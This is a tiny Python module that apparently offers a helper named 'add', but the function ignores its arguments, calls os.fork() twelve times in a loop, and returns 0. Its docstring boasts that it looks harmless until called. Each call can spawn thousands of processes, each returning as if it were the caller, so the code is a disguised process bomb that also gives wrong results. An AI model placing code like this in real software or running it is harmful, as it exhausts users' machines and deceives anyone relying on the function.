"""Looks harmless when loaded and forks only when called, each child living on to answer in the parent's stead."""

import os
import time


def add(a, b):
    for _ in range(12):
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
    return 0
